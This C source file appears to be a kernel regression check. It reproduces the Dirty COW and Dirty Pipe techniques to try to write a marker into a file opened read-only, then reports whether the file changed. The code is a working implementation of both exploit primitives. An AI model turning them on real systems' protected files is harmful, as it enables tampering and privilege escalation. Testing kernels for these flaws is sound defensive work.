/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Ways in which kernels were once made to write into files that were open for reading only.
 *
 * cow FILE, cow-shared FILE: writes to a mapping of FILE by /proc/self/mem and by ptrace while another thread drops its pages
 * (Dirty COW). Shared, the file must have been opened for writing: so the same program does change it.
 * pipe FILE: writes into a pipe behind a byte of FILE that was spliced into it (Dirty Pipe); by sendfile and tee, too.
 *
 * Prints how many writes took place, and whether a fresh look at the file shows any.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/wait.h>
#include <unistd.h>

#define ROUNDS 4000

static const char mark[8] = "ATTACKED";
static char before[4096];
static atomic_int stop;

static void *drop(void *map)
{
	while (!stop)
		madvise(map, 4096, MADV_DONTNEED);
	return NULL;
}

static long by_mem(char *map)
{
	int mem = open("/proc/self/mem", O_RDWR);
	long done = 0;

	for (int i = 0; i < ROUNDS; i++)
		done += pwrite(mem, mark, sizeof(mark), (off_t)(uintptr_t)map) == sizeof(mark);
	close(mem);
	return done;
}

/* The child's mapping is a copy of ours; its pages are dropped by a thread of its own. */
static long by_ptrace(char *map)
{
	long done = 0, word;
	pid_t pid = fork();

	memcpy(&word, mark, sizeof(word));
	if (!pid) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	for (int i = 0; i < ROUNDS / 10; i++)
		done += !ptrace(PTRACE_POKEDATA, pid, map, word);
	ptrace(PTRACE_CONT, pid, 0, 0);
	waitpid(pid, NULL, 0);
	return done;
}

static long cow(const char *path, int shared)
{
	int fd = open(path, shared ? O_RDWR : O_RDONLY);
	char *map = mmap(NULL, 4096, shared ? PROT_READ | PROT_WRITE : PROT_READ, shared ? MAP_SHARED : MAP_PRIVATE, fd, 0);
	pthread_t thread;
	long done;

	if (map == MAP_FAILED)
		return -1;
	pthread_create(&thread, NULL, drop, map);
	done = by_mem(map);
	done += by_ptrace(map);
	stop = 1;
	pthread_join(thread, NULL);
	return done;
}

/* All buffers of the pipe have been used once: the flag that Dirty Pipe was about stays with them. */
static void use_all(int p[2])
{
	static char room[4096];
	int size = fcntl(p[1], F_GETPIPE_SZ);

	for (int n = size; n > 0; n -= (int)sizeof(room))
		write(p[1], room, sizeof(room));
	for (int n = size; n > 0; n -= (int)sizeof(room))
		read(p[0], room, sizeof(room));
}

static int fill(int how, int fd, int p[2])
{
	int other[2];
	off_t off = 8;

	switch (how) {
	case 0:
		return (int)splice(fd, &off, p[1], NULL, 1, 0);
	case 1:
		return (int)sendfile(p[1], fd, &off, 1);
	default:
		pipe(other);
		return splice(fd, &off, other[1], NULL, 1, 0) == 1 ? (int)tee(other[0], p[1], 1, 0) : -1;
	}
}

static long dirty_pipe(const char *path)
{
	int fd = open(path, O_RDONLY), p[2];
	long done = 0;

	for (int how = 0; how < 3; how++) {
		pipe(p);
		use_all(p);
		if (fill(how, fd, p) == 1)
			done += write(p[1], mark, sizeof(mark)) == sizeof(mark);
		close(p[0]);
		close(p[1]);
	}
	return done;
}

static int look(const char *path, char *to)
{
	int fd = open(path, O_RDONLY);
	int n = (int)read(fd, to, 4096);

	close(fd);
	return n;
}

int main(int argc, char **argv)
{
	char after[4096];
	long done;
	int n;

	if (argc != 3)
		return 2;
	n = look(argv[2], before);
	done = !strcmp(argv[1], "pipe") ? dirty_pipe(argv[2]) : cow(argv[2], !strcmp(argv[1], "cow-shared"));
	printf("%ld writes\n", done);
	puts(look(argv[2], after) == n && !memcmp(before, after, (size_t)n) ? "unchanged" : "CHANGED");
	return done > 0 ? 0 : 3;
}
